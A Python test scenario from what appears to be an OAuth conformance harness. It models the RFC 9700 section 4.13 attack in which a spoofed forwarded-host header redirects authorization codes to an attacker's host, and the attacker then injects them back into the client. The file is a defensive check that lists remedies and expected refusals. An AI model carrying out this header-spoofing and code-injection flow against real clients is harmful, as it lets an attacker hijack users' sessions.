"""The attacker tells the client under which name it was reached, and so where answers should go.

RFC 9700 section 4.13. A header that only the client's own proxy should set comes in from outside,
and the client takes the host of its redirect URI from it. The attacker's own login asks for an
answer at the attacker's address, and the victim follows that request. Where the server looks at no
redirect URI, a code could have been sent there anyway; but only a client that names the same place
once more makes it good, when the attacker brings the code and the header to it.
"""

from attacker.vantage import OWN_ADDRESS
from reports.records import Deviation, Proof, Refusal
from scenarios.hosts import THIEFS_HOST
from scenarios.model.consent import Unasked
from scenarios.model.redirect import bent
from scenarios.model.rule import Rule
from scenarios.play import Play
from scenarios.registry import scenario
from victim.identity_provider import ClientType


@scenario(
    title="A header cannot change where the client wants its answers",
    vantage=OWN_ADDRESS,
    clauses=("RFC9700#4.13", "RFC9700#4.1.3", "RFC6749#4.1.3"),
    remedy="Configure the redirect URI, and have the proxy remove such headers from requests.",
    attack=(
        Unasked(),
        Rule("the redirect URI is not one that the client has registered", ("redirect_unchecked",)),
        Rule(
            "the client redeems codes with its own redirect URI, and that is not where it went",
            ("forwarded_host_trusted", "code_not_bound_to_redirect_uri"),
        ),
    ),
    refusals=(Refusal.AUTHORIZATION_ENDPOINT, Refusal.TOKEN_ENDPOINT),
    deviates=(Deviation.REDIRECT_URI,),
    client_type=ClientType.CONFIDENTIAL,
    proof=Proof.SESSION,
)
async def forwarded_host(play: Play) -> None:
    """Claim a host, have the victim answer the own login there, and bring the code back."""
    async with play.step("The attacker looks at the client, where nobody is signed in"):
        await play.thief.study_client()
        elsewhere = bent(f"https://{THIEFS_HOST}{{path}}", play.thief.known_redirect_uri())
        await play.injector.look_at_session()
    async with play.step("The attacker starts a login, and says that the client has its own name"):
        play.injector.claim_host(THIEFS_HOST)
        state = await play.injector.start_own_login()
    async with play.step("The victim is lured to that request, and comes to the attacker"):
        await play.victim.lured_to(play.injector.own_request(redirect_uri=elsewhere))
        code = play.thief.catch()
    async with play.step("The attacker brings the code to the client, under the same name"):
        await play.injector.inject(code, state)
        await play.injector.look_at_session()
